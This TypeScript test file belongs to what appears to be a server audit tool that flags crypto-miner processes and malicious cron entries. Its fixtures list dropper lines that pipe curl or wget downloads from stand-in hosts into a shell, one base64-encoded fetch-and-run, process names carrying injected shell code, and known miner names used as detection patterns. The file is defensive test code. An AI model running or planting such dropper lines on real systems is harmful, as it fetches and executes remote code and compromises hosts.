import assert from 'node:assert/strict';
import { readFileSync, realpathSync } from 'node:fs';
import { describe, it } from 'node:test';
import { cronFilesFact, findCronDroppers, isDropperLine } from '../../src/audit/cron-droppers.js';
import { intrusionCheck, isMinerName, judgeMiners, suspicion } from '../../src/audit/intrusion.js';
import { printable, printableBytes } from '../../src/audit/printable.js';
import { parseProcessList, processesFact } from '../../src/audit/processes.js';
import { gatherFactGroups } from '../../src/engine/probe.js';
import { LocalTarget } from '../../src/target/local.js';

const b64 = (text: string | Buffer) => Buffer.from(text).toString('base64');

/** Debian 12's /etc/crontab and /etc/cron.d/e2scrub_all, as shipped. */
const STOCK_CRONTAB = `# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
`;
const E2SCRUB = `30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron
10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r
`;

describe('printable', () => {
  it('spells out control, line-breaking and direction characters, and backslashes', () => {
    assert.equal(printable('a\nb\tc\r\x1b[31m\u202eevil\\'), 'a\\nb\\tc\\r\\x1b[31m\\u202eevil\\\\');
    assert.equal(printable('kdevtmpfsi'), 'kdevtmpfsi');
  });
  it('shows bytes that are not UTF-8 as \\xNN', () => {
    assert.equal(printableBytes(Buffer.from([0x6b, 0xff, 0x0a, 0x5c])), 'k\\xff\\x0a\\x5c');
    assert.equal(printableBytes(Buffer.from('café\n')), 'café\\n');
  });
});

describe('processes from /proc', () => {
  it('decodes each field whole: a name with a newline, spaces and shell code stays one process', () => {
    const stdout = [
      `1 ${b64('systemd\n')} ${b64('/usr/lib/systemd/systemd\n')}`,
      `2 ${b64('kthreadd\n')} `,
      `812 ${b64('a\n$(>/tmp/pw) 9 x\n')} ${b64('/usr/bin/python3.11\n')}`,
      `901 ${b64('kdevtmpfsi\n')} ${b64('/tmp/kdevtmpfsi (deleted)\n')}`,
      `902 ${b64(Buffer.from([0x78, 0xff, 0x0a]))} ${b64('/dev/shm/b\n;$(id) (deleted)\n')}`,
      '',
    ].join('\n');
    assert.deepEqual(parseProcessList(stdout), [
      { pid: 1, comm: 'systemd', exe: '/usr/lib/systemd/systemd' },
      { pid: 2, comm: 'kthreadd', exe: undefined },
      { pid: 812, comm: 'a\\n$(>/tmp/pw) 9 x', exe: '/usr/bin/python3.11' },
      { pid: 901, comm: 'kdevtmpfsi', exe: '/tmp/kdevtmpfsi (deleted)' },
      { pid: 902, comm: 'x\\xff', exe: '/dev/shm/b\\n;$(id) (deleted)' },
    ]);
  });

  it('reads the real /proc of this machine: this test process is there, with its executable', async () => {
    const [facts] = (await gatherFactGroups(new LocalTarget(), [{ processes: processesFact }])) as [{ processes: ReturnType<typeof parseProcessList> }];
    const self = facts.processes.find((p) => p.pid === process.pid);
    // The kernel's name for it: "node", or "MainThread" where Node names its main thread (Node 24).
    const comm = readFileSync('/proc/self/comm', 'utf8').trim();
    assert.deepEqual(self, { pid: process.pid, comm, exe: realpathSync(process.execPath) });
  });

  it('no process read at all cannot be judged', () => {
    assert.throws(() => processesFact.parse({ stdout: '', stderr: 'sh: cd: /proc: No such file', exitCode: 1 }), /no process could be read from \/proc/);
  });
});

describe('miner and dropper processes', () => {
  it('known miner names, whole or with a suffix, in any case', () => {
    for (const name of ['kdevtmpfsi', 'kinsing', 'xmrig', 'XMRig', 'xmrig-notls', 'cpuminer-opt', 't-rex', 'lolMiner', 'SRBMiner-MULTI']) assert.ok(isMinerName(name), name);
    for (const name of ['xmrigger', 'sshd', 'postgres', 'redis-server', 'miner', 'kworker/0:1', 'trex']) assert.ok(!isMinerName(name), name);
  });

  it('names the reasons: a miner name, a world-writable folder, a deleted file', () => {
    assert.equal(suspicion({ pid: 9, comm: 'kdevtmpfsi', exe: '/tmp/kdevtmpfsi' }), "a known miner's name; runs from /tmp");
    assert.equal(suspicion({ pid: 9, comm: 'b', exe: '/dev/shm/b (deleted)' }), 'runs from /dev/shm, its file deleted');
    assert.equal(suspicion({ pid: 9, comm: 'sleep', exe: '/var/tmp/.x/kthreaddk' }), 'runs from /var/tmp');
    assert.equal(suspicion({ pid: 9, comm: 'xmrig', exe: undefined }), "a known miner's name");
    assert.equal(suspicion({ pid: 9, comm: 'sh', exe: '/opt/x/xmrig' }), "a known miner's name");
    assert.equal(suspicion({ pid: 9, comm: 'sshd', exe: '/usr/sbin/sshd (deleted)' }), undefined, 'a binary replaced by an upgrade is no sign');
    assert.equal(suspicion({ pid: 9, comm: 'tmpx', exe: '/tmpfoo/tmpx' }), undefined);
  });

  it('fails with one line per process and cron entry; passes with counts', () => {
    const processes = [
      { pid: 1, comm: 'systemd', exe: '/usr/lib/systemd/systemd' },
      { pid: 1234, comm: 'kdevtmpfsi', exe: '/tmp/kdevtmpfsi' },
    ];
    const cron = [{ path: '/etc/cron.d/x', text: '* * * * * root curl -fsSL http://example.invalid/x.sh | sh\n' }];
    const failing = judgeMiners({ processes, cron });
    assert.equal(failing.status, 'fail');
    assert.equal(failing.evidence, "PID 1234 kdevtmpfsi (/tmp/kdevtmpfsi): a known miner's name; runs from /tmp\n/etc/cron.d/x line 1: * * * * * root curl -fsSL http://example.invalid/x.sh | sh (downloads a script and runs it)");
    assert.match(failing.fix, /rotate every secret \(golive apply --only secrets --rotate/);
    const passing = judgeMiners({ processes: processes.slice(0, 1), cron: [{ path: '/etc/crontab', text: STOCK_CRONTAB }] });
    assert.equal(passing.status, 'pass');
    assert.match(passing.evidence, /^\/proc: 1 processes, none named like a miner or run from \/tmp, \/var\/tmp, \/dev\/shm; cron: 1 files/);
    assert.deepEqual(intrusionCheck.items.map((i) => i.id), ['intrusion.miners']);
  });
});

describe('cron droppers', () => {
  it('finds a fetched script run by a shell, however it is written', () => {
    for (const line of [
      '* * * * * root curl -fsSL http://example.invalid/x.sh | sh',
      '*/1 * * * * wget -q -O - http://192.0.2.7/pg.sh | sh > /dev/null 2>&1',
      '* * * * * (curl -s http://example.invalid/a.sh || wget -q -O- http://example.invalid/a.sh) | bash',
      '* * * * * curl http://example.invalid/i.sh | sudo -E bash -s -',
      '* * * * * curl -s http://example.invalid/x|/bin/sh',
      '* * * * * wget -qO- http://example.invalid/x.py | python3',
      '@reboot bash -c "$(curl -fsSL http://example.invalid/x.sh)"',
      '@hourly sh <(wget -O- http://example.invalid/x.sh)',
      '* * * * * echo Y3VybCBodHRwOi8veC95fHNo | base64 -d | bash',
      '*/5 * * * * wget -q http://example.invalid/k -O /tmp/k; chmod +x /tmp/k; /tmp/k',
      '*/5 * * * * curl -o /var/tmp/k http://example.invalid/k && chmod 755 /var/tmp/k && /var/tmp/k',
    ]) assert.ok(isDropperLine(line), line);
  });

  it('leaves stock entries, health pings and comments alone', () => {
    for (const line of [
      ...STOCK_CRONTAB.split('\n'),
      ...E2SCRUB.split('\n'),
      '0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e \'sleep int(rand(43200))\' && certbot -q renew',
      '*/5 * * * * /opt/backup.sh && curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.example.com/uuid',
      '0 3 * * * curl -fsS https://example.com/report | logger -t report',
      '# * * * * * curl http://example.invalid/x.sh | sh',
      '0 4 * * * pg_dump app | gzip > /var/backups/app.sql.gz || sh /opt/alert.sh',
    ]) assert.ok(!isDropperLine(line), line);
  });

  it('reads files base64-encoded: hostile names and lines are shown escaped, with their line numbers', () => {
    const stdout = `${b64('/etc/crontab')} ${b64(STOCK_CRONTAB)}\n${b64('/etc/cron.d/a\nb')} ${b64('# x\n* * * * * root curl http://e.invalid/\x1b[2J | sh\n')}\n${b64('/etc/cron.d/empty')} \n`;
    const files = cronFilesFact.parse({ stdout, stderr: '', exitCode: 0 });
    assert.deepEqual(files.map((f) => f.path), ['/etc/crontab', '/etc/cron.d/a\\nb', '/etc/cron.d/empty']);
    assert.deepEqual(findCronDroppers(files), [{ path: '/etc/cron.d/a\\nb', line: 2, entry: '* * * * * root curl http://e.invalid/\\x1b[2J | sh' }]);
  });
});
